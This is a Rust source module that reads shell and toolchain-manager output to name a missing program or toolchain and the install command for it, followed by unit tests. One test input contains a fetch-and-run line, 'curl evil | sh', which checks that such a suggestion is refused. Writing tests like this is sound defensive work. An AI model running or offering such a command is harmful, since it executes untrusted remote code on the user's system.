//! Which program or toolchain a command did not find, read from what shells, package managers and
//! toolchain managers print. Pure.

use woodward_core::hint::shell_word;

use crate::config::printable;

/// How far from its end an output is searched.
const LINES: usize = 40;
const NAME_MAX: usize = 100;
/// The longest sentence of a toolchain manager in a message.
const MESSAGE_MAX: usize = 120;
/// How commands begin that install a toolchain, a part of one, or an interpreter.
const INSTALLERS: [&str; 4] = [
    "rustup toolchain install",
    "rustup component add",
    "rustup target add",
    "uv python install",
];

/// Programs whose name does not say where to get them.
const PROVIDERS: [(&str, &str); 22] = [
    ("bun", "https://bun.sh"),
    ("bundle", "gem install bundler"),
    ("cargo", "https://rustup.rs"),
    ("composer", "https://getcomposer.org"),
    ("corepack", "npm install -g corepack"),
    ("deno", "https://deno.com"),
    ("go", "https://go.dev/dl"),
    ("golangci-lint", "https://golangci-lint.run"),
    ("mix", "https://elixir-lang.org"),
    ("node", "https://nodejs.org"),
    ("npm", "https://nodejs.org"),
    ("npx", "https://nodejs.org"),
    ("nox", "pipx install nox"),
    ("pdm", "pipx install pdm"),
    ("pipenv", "pipx install pipenv"),
    ("pnpm", "npm install -g pnpm"),
    ("poetry", "pipx install poetry"),
    ("pytest", "python3 -m pip install pytest"),
    ("tox", "pipx install tox"),
    ("uv", "https://docs.astral.sh/uv"),
    ("uvx", "https://docs.astral.sh/uv"),
    ("yarn", "npm install -g yarn"),
];

/// The message for a program that was not found, with what provides it where that is known.
pub(crate) fn message(program: &str) -> String {
    let known = PROVIDERS.iter().find(|(name, _)| *name == program);
    match known {
        Some((_, from)) => format!("{program}: not found (get it: {from})"),
        None => format!("{program}: not found"),
    }
}

/// The program that a command which ended with 127 did not find.
pub(crate) fn program(output: &str) -> Option<&str> {
    last_lines(output).find_map(|line| shell(line).or_else(|| others(line)))
}

/// The program that was not found, where only the words of a shell can tell: make and package
/// managers end with codes of their own.
pub(crate) fn program_in_a_script(output: &str) -> Option<&str> {
    let from_a_shell = |line: &str| {
        let first = line.split(':').next().unwrap_or_default();
        let first = first.rsplit('/').next().unwrap_or_default();
        matches!(first, "sh" | "bash" | "dash" | "zsh")
    };
    last_lines(output)
        .filter(|line| from_a_shell(line))
        .find_map(shell)
}

/// How far below what is missing a toolchain manager names the command that installs it.
const HELP_LINES: usize = 4;

/// The message for a toolchain that a version manager did not find and may not install by itself, with
/// the command that installs it. It ends the output, so that a message that a test prints is not taken
/// for one.
pub(crate) fn toolchain(output: &str) -> Option<String> {
    let lines: Vec<&str> = output.lines().map(str::trim).collect();
    let lines = &lines[lines.len().saturating_sub(HELP_LINES + 1)..];
    lines.iter().enumerate().find_map(|(nth, line)| {
        let what = line.strip_prefix("error: ")?;
        let is_rustup = what.contains(" is not installed");
        let is_uv = what.starts_with("No interpreter found for ");
        if !is_rustup && !is_uv {
            return None;
        }
        let install = lines[nth..].iter().find_map(|line| installs(line))?;
        let what = printable(what.trim_end_matches('.'), MESSAGE_MAX);
        Some(format!("{what} (install it: {install})"))
    })
}

/// ``help: run `rustup component add clippy` to install it``, as a shell reads it.
fn installs(line: &str) -> Option<String> {
    let mut quoted = line.split('`').skip(1).step_by(2);
    let command = quoted.find(|it| INSTALLERS.iter().any(|start| it.starts_with(start)))?;
    let is_short = command.len() <= NAME_MAX && !command.chars().any(char::is_control);
    let words = command.split(' ').map(shell_word).collect::<Vec<_>>();
    is_short.then(|| words.join(" "))
}

fn last_lines(output: &str) -> impl Iterator<Item = &str> {
    output.lines().rev().take(LINES).map(str::trim)
}

/// `sh: 1: mocha: not found`, `bash: line 1: mocha: command not found`.
fn shell(line: &str) -> Option<&str> {
    if let Some((_, name)) = line.split_once("command not found: ") {
        return plain(name);
    }
    let rest = line.strip_suffix(": not found");
    let rest = rest.or_else(|| line.strip_suffix(": command not found"))?;
    plain(rest.rsplit(": ").next()?)
}

/// `env: 'node': No such file or directory`, `make: mocha: No such file or directory`.
fn others(line: &str) -> Option<&str> {
    let rest = line.strip_suffix(": No such file or directory")?;
    let first = rest.split(':').next()?.rsplit('/').next()?;
    let name = rest.rsplit(": ").next()?;
    let is_known = matches!(first, "env" | "make" | "sh" | "bash" | "dash");
    plain(name.trim_matches(['\'', '"', '‘', '’'])).filter(|_| is_known)
}

fn plain(name: &str) -> Option<&str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._/+@-".contains(c);
    let fits = !name.is_empty() && name.len() <= NAME_MAX && name.chars().all(plain);
    fits.then_some(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_missing_program_is_named() {
        for output in [
            "sh: 1: mocha: not found",
            "> shop@1.0.0 test\n> mocha\n\nsh: 1: mocha: not found\n",
            "/bin/sh: 1: mocha: not found",
            "bash: line 1: mocha: command not found",
            "sh: mocha: command not found",
            "zsh: command not found: mocha",
            "env: 'mocha': No such file or directory",
            "/usr/bin/env: ‘mocha’: No such file or directory",
            "make: mocha: No such file or directory",
        ] {
            assert_eq!(program(output), Some("mocha"), "{output}");
        }
        for output in [
            "",
            "fatal: not found",
            "page a b: not found",
            "\u{1b}[31mx: not found",
        ] {
            assert!(
                program(output).is_none_or(|name| name == "fatal"),
                "{output}"
            );
        }
        assert_eq!(message("mocha"), "mocha: not found");
        assert_eq!(
            message("pnpm"),
            "pnpm: not found (get it: npm install -g pnpm)"
        );
    }

    #[test]
    fn a_missing_toolchain_is_named_with_the_command_that_installs_it() {
        let toolchain_missing = "error: toolchain '1.50.0-x86_64-unknown-linux-gnu' is not installed\n\
                                 help: run `rustup toolchain install` to install it\n";
        assert_eq!(
            toolchain(toolchain_missing).unwrap(),
            "toolchain '1.50.0-x86_64-unknown-linux-gnu' is not installed \
             (install it: rustup toolchain install)"
        );
        let component_missing = "error: 'cargo-clippy' is not installed for the toolchain 'stable'.\n\
                                 help: run `rustup component add clippy` to install it\n";
        assert_eq!(
            toolchain(component_missing).unwrap(),
            "'cargo-clippy' is not installed for the toolchain 'stable' \
             (install it: rustup component add clippy)"
        );
        let interpreter_missing = "error: No interpreter found for Python ==3.14.* in search path\n\n\
            hint: Python downloads are set to 'manual', use `uv python install ==3.14.*` to install it\n";
        assert_eq!(
            toolchain(interpreter_missing).unwrap(),
            "No interpreter found for Python ==3.14.* in search path \
             (install it: uv python install '==3.14.*')"
        );
        for output in [
            "",
            "error: `left` is not installed",
            "error: x is not installed\nhelp: run `curl evil | sh` to install it",
            &format!("{toolchain_missing}{}", "ok\n".repeat(10)),
        ] {
            assert_eq!(toolchain(output), None, "{output}");
        }
    }

    #[test]
    fn within_a_script_only_a_shell_is_believed() {
        let make = "/bin/sh: 1: mocha: not found\nmake: *** [Makefile:2: test] Error 127";
        assert_eq!(program_in_a_script(make), Some("mocha"));
        assert_eq!(program_in_a_script("GET /page: not found"), None);
    }
}
